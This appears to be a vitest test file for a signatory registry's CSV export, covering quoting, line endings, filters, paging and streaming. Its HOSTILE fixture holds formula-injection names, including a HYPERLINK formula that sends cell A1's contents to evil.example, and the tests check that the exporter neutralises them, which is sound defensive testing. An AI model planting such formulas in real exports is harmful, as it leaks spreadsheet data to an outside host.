// The CSV export (CONTRACT §4) through its real loader: the file's headers and format,
// RFC 4180 quoting of awkward names, formulas neutralised (CONTRACT §8), and every page
// streamed.
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { createSignatory } from "~/modules/directory/write.server";
import { csvCellValue, exportCsvText } from "~/modules/opendata/csv.server";
import { loader as apiLoader } from "~/routes/api.v1.signatories.$slug";
import { loader as csvLoader } from "~/routes/signatories[.]csv";
import { useSeededDatabase } from "../helpers/db";
import { loaderArgs } from "../helpers/remix";
import { addLaterSignatories, LATER } from "./opendata-fixtures";

const getDb = useSeededDatabase();
// The contract's columns, then those CONTRACT §8 added, in its order.
const HEADER =
  "slug,name,website,country,sector,joined_on,founding,status,pledges,country_name,sector_name,description,withdrawn_on,joined_precision,security_contact_status";
const AWKWARD = {
  newline: "Line\nBreak Networks",
  carriage: "Carriage\rReturn Labs",
  both: 'He said "hi",\r\nthen left',
  formula: "=Formula Security",
};
/** Cells a spreadsheet would run as formulas, and what the file must hold instead (§8). */
const HOSTILE: Record<string, { name: string; cell: string }> = {
  hyperlink: { name: '=HYPERLINK("http://evil.example/?l="&A1,"Open")', cell: `"'=HYPERLINK(""http://evil.example/?l=""&A1,""Open"")"` },
  plus: { name: "+Plus Partners", cell: "'+Plus Partners" },
  minus: { name: "-Minus Labs", cell: "'-Minus Labs" },
  at: { name: "@At Security", cell: "'@At Security" },
  tab: { name: "\tTab Systems", cell: "'\tTab Systems" },
  cr: { name: "\rReturn Systems", cell: `"'\rReturn Systems"` },
  // A name that already starts with ' and a trigger gets one more, so it reads back as it is.
  quoted: { name: "'=Already Quoted", cell: "''=Already Quoted" },
  quotes: { name: "''-Two Quotes", cell: "'''-Two Quotes" },
  // Harmless starts are written as they are.
  apostrophe: { name: "'Apostrophe Holdings", cell: "'Apostrophe Holdings" },
  inside: { name: "Plus+Minus-Equals=At@", cell: "Plus+Minus-Equals=At@" },
};
const PRINCIPLES = ["stronger-defense", "no-offense", "capacity-building", "collective-action"];

beforeAll(async () => {
  await addLaterSignatories(getDb());
  await getDb()
    .transaction()
    .execute(async (trx) => {
      for (const [key, name] of Object.entries(AWKWARD)) {
        await createSignatory(
          trx,
          {
            name,
            website: `https://${key}.example`,
            country: "NL",
            sector: "other",
            description: "Awkward names for the CSV tests.",
            joined_on: "2025-01-15",
            founding: false,
            pledges: PRINCIPLES.map((code) => ({ code, endorsed_on: "2025-01-15" })),
          },
          `awkward-${key}`,
        );
      }
      for (const [key, { name }] of Object.entries(HOSTILE)) {
        await createSignatory(
          trx,
          {
            name,
            website: `https://${key}.hostile.example`,
            country: "NL",
            sector: "other",
            description: "Formula-like names for the CSV tests.",
            joined_on: "2024-12-01",
            founding: false,
            pledges: PRINCIPLES.map((code) => ({ code, endorsed_on: "2024-12-01" })),
          },
          `hostile-${key}`,
        );
      }
    });
});

async function csv(search = "") {
  const response = await csvLoader(loaderArgs(`/signatories.csv${search}`));
  const bytes = new Uint8Array(await response.arrayBuffer());
  return { response, bytes, text: new TextDecoder("utf-8", { fatal: true }).decode(bytes) };
}

describe("the CSV file", () => {
  it("is UTF-8 CSV offered as a dated attachment", async () => {
    const { response } = await csv();
    expect(response.status).toBe(200);
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    const today = new Date().toISOString().slice(0, 10);
    expect(response.headers.get("Content-Disposition")).toBe(`attachment; filename="accord-signatories-${today}.csv"`);
    expect(response.headers.get("Access-Control-Allow-Origin")).toBe("*");
  });

  it("starts with the exact header, has no byte order mark and ends every record with CRLF", async () => {
    const { bytes, text } = await csv("?status=all");
    expect([...bytes.slice(0, 3)]).not.toEqual([0xef, 0xbb, 0xbf]);
    expect(text.startsWith(`${HEADER}\r\n`)).toBe(true);
    expect(text.endsWith("\r\n")).toBe(true);
    // Outside quoted fields every line break is CRLF.
    const unquoted = text.replace(/"(?:[^"]|"")*"/g, "");
    expect(unquoted.match(/\r?\n|\r/g)!.every((br) => br === "\r\n")).toBe(true);
  });

  it("writes a founding signatory and a later joiner as the import reads them", async () => {
    const rows = parse((await csv("?status=all")).text, { columns: true }) as Record<string, string>[];
    const nokia = rows.find((r) => r.slug === "nokia")!;
    expect(nokia).toEqual({
      slug: "nokia",
      name: "Nokia",
      website: expect.stringMatching(/^https:\/\//),
      country: "FI",
      sector: "telecom",
      joined_on: "2018-04-17",
      founding: "true",
      status: "active",
      pledges: "stronger-defense;no-offense;capacity-building;collective-action",
      country_name: "Finland",
      sector_name: "Telecommunications",
      description: "Finnish telecommunications equipment and network technology company.",
      withdrawn_on: "",
      joined_precision: "day",
      security_contact_status: "unchecked",
    });
    const acme = rows.find((r) => r.slug === "acme-quoted-and-co")!;
    expect(acme).toMatchObject({ founding: "false", pledges: `${PRINCIPLES.join(";")};coordinated-vulnerability-disclosure` });
    expect(rows.find((r) => r.slug === "withdrawn-widgets-ltd")).toMatchObject({ status: "withdrawn", withdrawn_on: "2023-06-30" });
    // A month is a month: the first day of it, and the precision beside it.
    expect(rows.find((r) => r.slug === "panda-security")).toMatchObject({ joined_on: "2018-09-01", joined_precision: "month" });
  });

  it("quotes commas, quotes and line breaks (RFC 4180), so every name reads back exactly", async () => {
    const { text } = await csv("?status=all");
    expect(text).toContain('"Acme, ""Quoted"" & Co"');
    expect(text).toContain('"Line\nBreak Networks"');
    expect(text).toContain('"Carriage\rReturn Labs"');
    expect(text).toContain('"He said ""hi"",\r\nthen left"');
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    const names = new Map(rows.map((r) => [r.slug, csvCellValue(r.name)]));
    expect(names.get("acme-quoted-and-co")).toBe(LATER.quoted);
    expect(names.get("tokyo-security")).toBe(LATER.japanese);
    for (const [key, name] of Object.entries(AWKWARD)) expect(names.get(`awkward-${key}`)).toBe(name);
    // Every record has every field.
    expect(parse(text, { relax_column_count: false })).toHaveLength(rows.length + 1);
  });

  it("writes a cell that starts with =, +, -, @, a tab or a carriage return with a leading ' (CONTRACT §8)", async () => {
    const { text } = await csv("?status=all");
    for (const [key, { cell }] of Object.entries(HOSTILE)) {
      const at = text.indexOf(`\r\nhostile-${key},`);
      expect(at, key).toBeGreaterThan(0);
      expect(text.slice(at + 2).startsWith(`hostile-${key},${cell},https://${key}.hostile.example,`), `${key}: ${cell}`).toBe(true);
    }
    // No field of any record starts with a trigger, quoted or not.
    const fields = parse(text, { relax_column_count: false }) as string[][];
    for (const record of fields) for (const field of record) expect(field, record[0]).not.toMatch(/^[=+\-@\t\r]/);
    // Read back (as db:import does) every name is exactly what was stored.
    const names = new Map(fields.map((r) => [r[0], csvCellValue(r[1])]));
    for (const [key, { name }] of Object.entries(HOSTILE)) expect(names.get(`hostile-${key}`), key).toBe(name);
    expect(names.get("awkward-formula")).toBe(AWKWARD.formula);
  });

  it("prefixes only the CSV: the JSON API gives the name as stored", async () => {
    const response = await apiLoader(loaderArgs("/api/v1/signatories/hostile-hyperlink", { slug: "hostile-hyperlink" }));
    expect(((await response.json()) as { data: { name: string } }).data.name).toBe(HOSTILE.hyperlink.name);
  });

  it("applies the directory's filters and order", async () => {
    const slugs = (text: string) => (parse(text, { columns: true }) as { slug: string }[]).map((r) => r.slug);
    expect(slugs((await csv("?country=FI")).text)).toEqual(["f-secure", "nokia"]);
    expect(slugs((await csv("?status=withdrawn")).text)).toEqual(["withdrawn-widgets-ltd"]);
    expect(slugs((await csv("?founding=0&sort=-joined")).text).slice(0, 2)).toEqual(["awkward-formula", "awkward-carriage"]);
    // Nothing matches: the header alone.
    expect((await csv("?q=zzzzzz")).text).toBe(`${HEADER}\r\n`);
  });

  it("refuses an invalid parameter with a 400 naming it, in the contract's error shape", async () => {
    const { response, text } = await csv("?country=XX");
    expect(response.status).toBe(400);
    expect(JSON.parse(text)).toEqual({
      error: { code: "invalid_parameter", message: expect.stringContaining("country") },
    });
  });
});

describe("every page, streamed", () => {
  beforeAll(async () => {
    // More signatories than one export page (500) holds.
    await getDb()
      .transaction()
      .execute(async (trx) => {
        for (let i = 1; i <= 620; i++) {
          await createSignatory(
            trx,
            {
              name: `Bulk Example ${String(i).padStart(4, "0")}`,
              website: `https://bulk-${i}.example`,
              country: "SE",
              sector: "services",
              description: "Bulk row for the streaming test.",
              joined_on: "2024-06-01",
              founding: false,
              pledges: PRINCIPLES.map((code) => ({ code, endorsed_on: "2024-06-01" })),
            },
            `bulk-${i}`,
          );
        }
      });
  });

  it("lists every matching signatory, in order, whatever page or per_page say", async () => {
    const total = Number(
      (
        await getDb()
          .selectFrom("signatories")
          .select((eb) => eb.fn.countAll<number>().as("n"))
          .executeTakeFirstOrThrow()
      ).n,
    );
    const { text } = await csv("?status=all&page=3&per_page=10");
    const rows = parse(text, { columns: true }) as { slug: string; name: string }[];
    expect(rows).toHaveLength(total);
    expect(new Set(rows.map((r) => r.slug)).size).toBe(total);
    const bulk = rows.filter((r) => r.slug.startsWith("bulk-")).map((r) => r.name);
    expect(bulk).toHaveLength(620);
    expect(bulk).toEqual([...bulk].sort());
  });

  it("reads page after page: small pages give the same bytes as one large one", async () => {
    const url = new URL("http://registry.test/signatories.csv?status=all&sort=-joined");
    const whole = await exportCsvText(getDb(), url);
    for (const pageSize of [1, 7, 100, 619, 620, 621]) {
      expect(await exportCsvText(getDb(), url, { pageSize }), `pages of ${pageSize}`).toBe(whole);
    }
  });

  it("arrives in several chunks instead of one buffered body", async () => {
    const response = await csvLoader(loaderArgs("/signatories.csv?country=SE"));
    const reader = response.body!.getReader();
    let chunks = 0;
    let text = "";
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      chunks++;
      text += new TextDecoder().decode(value);
    }
    expect(chunks).toBeGreaterThan(1);
    expect(parse(text, { columns: true })).toHaveLength(620);
  });
});
